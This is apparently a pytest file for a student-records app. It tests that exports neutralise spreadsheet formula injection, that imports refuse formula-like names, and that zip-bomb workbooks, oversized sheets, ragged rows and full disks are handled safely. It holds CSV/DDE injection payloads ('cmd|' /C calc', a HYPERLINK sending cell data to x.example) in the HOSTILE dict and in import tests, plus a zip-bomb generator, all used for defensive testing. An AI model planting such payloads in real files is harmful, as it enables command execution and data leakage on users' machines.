"""Hostile and broken files: CSV injection, a zip-bomb workbook, ragged rows, a full disk mid-export.

Issue 12 items 9, 10, 11 (export half) and 18; the behaviour is described in docs/file-safety.md.
"""

from __future__ import annotations

import csv
import errno
import re
import resource
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from app.db import Database
from app.errors import StorageError, ValidationError
from app.io import reader, sinks
from app.io.export import export
from app.io.importer import import_students
from app.io.labels import STUDENT_HEADERS
from app.permissions import SYSTEM_ACTOR
from tests.io.test_import import TODAY, _csv, _xlsx
from tests.reports.dataset import build

HOSTILE = {
    "name": '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "school": "-cmd|' /C calc'!A0",
    "grade": "+1+1",
    "card_code": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "\t=1+1",
}


def _plant_hostile_student(db: Database) -> None:
    """A student row as old data or a pulled change could hold it (validators refuse it today)."""
    build(db)
    with db.engine.begin() as conn:
        conn.execute(
            text(
                "UPDATE student SET name=:name, school=:school, grade=:grade, card_code=:card_code, "
                "phone=:phone WHERE name='张三'"
            ),
            HOSTILE,
        )


def test_csv_export_neutralises_formula_cells(db: Database, tmp_path: Path) -> None:
    _plant_hostile_student(db)
    out = tmp_path / "students.csv"
    export(db, SYSTEM_ACTOR, "students", out)
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    header, hostile = rows[0], next(r for r in rows if "HYPERLINK" in r[0])
    shown = dict(zip(header, hostile, strict=True))
    for column, value in (("姓名", "name"), ("学校", "school"), ("年级", "grade"), ("卡号", "card_code")):
        assert shown[column] == "'" + HOSTILE[value]
    assert shown["手机号"] == "'" + HOSTILE["phone"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_csv_keeps_plain_values_and_numbers(db: Database, tmp_path: Path) -> None:
    build(db)
    out = tmp_path / "pay.csv"
    export(db, SYSTEM_ACTOR, "payments", out)
    lines = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert all(not c.startswith("'") for line in lines for c in line)
    assert sinks.neutralise(-5) == -5 and sinks.neutralise("张三") == "张三"


def test_xlsx_export_of_hostile_text_stays_text(db: Database, tmp_path: Path) -> None:
    _plant_hostile_student(db)
    out = tmp_path / "students.xlsx"
    export(db, SYSTEM_ACTOR, "students", out)
    book = load_workbook(out)
    sheet = book.worksheets[0]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HOSTILE["name"])
    assert cell.data_type == "s"  # a string, never a formula ("f")


def test_imported_birth_date_mismatch_names_both_dates(db: Database, tmp_path: Path) -> None:
    row = ["张三", "男", "2015-03-08", "身份证", "110105201503070013", "", "", "", "", "", "", "", ""]
    report = import_students(db, SYSTEM_ACTOR, _xlsx(tmp_path / "d.xlsx", [row]), today=TODAY)
    assert [(p.row, p.column) for p in report.problems] == [(2, "出生日期")]
    reason = report.problems[0].reason
    assert "2015-03-08" in reason and "2015-03-07" in reason


def test_imported_names_starting_like_a_formula_are_refused(db: Database, tmp_path: Path) -> None:
    rows = [
        ["-cmd|' /C calc'!A0", "", "", "", "", "", "", "", "", "", "", "", ""],
        ["李四", "", "", "", "", "", "", "", "", "", "@SUM(1)", "父亲", ""],
    ]
    report = import_students(db, SYSTEM_ACTOR, _csv(tmp_path / "f.csv", rows), today=TODAY)
    assert [(p.row, p.column) for p in report.problems] == [(2, "姓名"), (3, "监护人姓名")]
    assert "公式" in report.problems[0].reason


# --- item 10: limits -------------------------------------------------------------------------------

_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c t="inlineStr"><is><t>\xe5\xa7\x93\xe5\x90\x8d</t></is></c></row>'
)


def _bomb(path: Path, rows: int) -> Path:
    """A valid workbook whose one sheet has ``rows`` tiny rows and no declared size (``<dimension>``)."""
    book = Workbook()
    book.save(path)  # a real package: content types, workbook, relationships, styles
    with zipfile.ZipFile(path) as source:
        parts = {n: source.read(n) for n in source.namelist() if n != "xl/worksheets/sheet1.xml"}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name, data in parts.items():
            target.writestr(name, data)
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(_SHEET_HEAD)
            block = b"<row><c><v>1</v></c></row>" * 10_000
            for _ in range(rows // 10_000):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return path


def _peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.timeout(120)  # before the fix this file ran for minutes and died of a MemoryError
def test_a_zip_bomb_workbook_is_refused_without_reading_it(db: Database, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "bomb.xlsx", 3_000_000)
    assert bomb.stat().st_size < 600_000
    before = _peak_rss_mb()
    with pytest.raises(ValidationError) as caught:
        import_students(db, SYSTEM_ACTOR, bomb, today=TODAY)
    assert caught.value.code == "import.too_many_rows"
    assert "100000" in caught.value.message
    assert _peak_rss_mb() - before < 200


def test_the_row_limit_is_exact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "MAX_ROWS", 3)
    rows = [["张三"], ["李四"], ["王五"]]
    assert len(reader.read_sheet(_csv(tmp_path / "ok.csv", rows)).rows) == 3
    assert len(reader.read_sheet(_xlsx(tmp_path / "ok.xlsx", rows)).rows) == 3
    with pytest.raises(ValidationError, match="上限"):
        reader.read_sheet(_csv(tmp_path / "over.csv", [*rows, ["赵六"]]))
    with pytest.raises(ValidationError, match="上限"):
        reader.read_sheet(_xlsx(tmp_path / "over.xlsx", [*rows, ["赵六"]]))


def test_a_workbook_expanding_past_the_byte_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reader, "MAX_XLSX_EXPANDED_BYTES", 10_000)
    with pytest.raises(ValidationError) as caught:
        reader.read_sheet(_bomb(tmp_path / "b.xlsx", 10_000))
    assert caught.value.code == "import.too_large"


_SST = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _shared_strings_book(path: Path, texts: list[str]) -> Path:
    """One column of ``texts`` kept as shared strings (as Excel and WPS save text), first one the header."""
    Workbook().save(path)
    with zipfile.ZipFile(path) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_SST}"/></Types>'.encode()
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdS" Type="{_SST_REL}" Target="sharedStrings.xml"/></Relationships>'.encode(),
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    items = "".join(f"<si><t>{t}</t></si>" for t in texts)
    parts["xl/sharedStrings.xml"] = f'<sst xmlns="{main}">{items}</sst>'.encode()
    rows = "".join(f'<row r="{i + 1}"><c r="A{i + 1}" t="s"><v>{i}</v></c></row>' for i in range(len(texts)))
    parts["xl/worksheets/sheet1.xml"] = (
        f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'.encode()
    )
    with zipfile.ZipFile(path, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def test_too_many_shared_strings_are_refused_before_openpyxl_reads_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl loads every shared string up front (3,000,000 took 45 s and 490 MB): counted first."""
    monkeypatch.setattr(reader, "MAX_SHARED_STRINGS", 3)
    three = reader.read_sheet(_shared_strings_book(tmp_path / "three.xlsx", ["姓名", "张三", "李四"]))
    assert three.header == ["姓名"] and [cells for _, cells in three.rows] == [["张三"], ["李四"]]
    with pytest.raises(ValidationError) as caught:
        reader.read_sheet(_shared_strings_book(tmp_path / "four.xlsx", ["姓名", "张三", "李四", "王五"]))
    assert caught.value.code == "import.too_many_strings"


def test_a_declared_size_smaller_than_the_sheet_does_not_cut_rows(tmp_path: Path) -> None:
    path = _xlsx(tmp_path / "s.xlsx", [["张三"], ["李四"], ["王五"]], header=("姓名",))
    with zipfile.ZipFile(path) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:A2"', sheet)
    assert b'ref="A1:A2"' in parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(path, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    assert [cells[0] for _, cells in reader.read_sheet(path).rows] == ["张三", "李四", "王五"]


def test_ragged_rows_with_extra_cells_are_refused_not_cut(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "ragged.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(STUDENT_HEADERS)
        writer.writerow(["张三", *[""] * 12])
        writer.writerow(["李四", *[""] * 12, "", "13800138000"])  # shifted one column too far
    with pytest.raises(ValidationError) as caught:
        import_students(db, SYSTEM_ACTOR, path, today=TODAY)
    assert caught.value.code == "import.extra_cells"
    assert "第3行" in caught.value.message
    with db.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM student")).scalar_one() == 0


def test_trailing_empty_cells_are_not_extra(tmp_path: Path) -> None:
    path = tmp_path / "padded.csv"
    path.write_text("姓名,,\r\n张三,,\r\n李四\r\n", encoding="utf-8")
    sheet = reader.read_sheet(path)
    assert sheet.header == ["姓名"] and [cells for _, cells in sheet.rows] == [["张三"], ["李四"]]


# --- item 11, export half: a full disk leaves nothing half-written ------------------------------------


class _FullDisk:
    """A file that takes ``room`` bytes and then fails like a full disk (``ENOSPC``)."""

    def __init__(self, real: BinaryIO, room: int) -> None:
        self._real, self._room = real, room

    def write(self, data: bytes) -> int:
        if len(data) > self._room:
            raise OSError(errno.ENOSPC, "No space left on device")
        self._room -= len(data)
        return self._real.write(data)

    def __getattr__(self, name: str) -> object:
        return getattr(self._real, name)


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    real = sinks.create_file
    monkeypatch.setattr(sinks, "create_file", lambda path: _FullDisk(real(path), 300))
    yield


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_full_disk_leaves_no_partial_export(
    db: Database, tmp_path: Path, full_disk: None, suffix: str
) -> None:
    build(db)
    folder = tmp_path / "out"
    folder.mkdir()
    earlier = folder / f"att{suffix}"
    earlier.write_bytes(b"an earlier export")
    with pytest.raises(StorageError) as caught:
        export(db, SYSTEM_ACTOR, "attendance", earlier)
    assert caught.value.code == "export.disk_full"
    assert "磁盘空间已满" in caught.value.message
    assert earlier.read_bytes() == b"an earlier export"  # untouched, and no temporary file left
    assert sorted(p.name for p in folder.iterdir()) == [earlier.name]


def test_export_appears_only_when_complete(db: Database, tmp_path: Path) -> None:
    build(db)
    out = tmp_path / "s.xlsx"
    export(db, SYSTEM_ACTOR, "students", out)
    assert zipfile.ZipFile(out).testzip() is None
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_export_into_a_missing_folder_is_a_plain_error(db: Database, tmp_path: Path) -> None:
    with pytest.raises(StorageError) as caught:
        export(db, SYSTEM_ACTOR, "students", tmp_path / "nowhere" / "s.csv")
    assert caught.value.code == "export.no_folder"
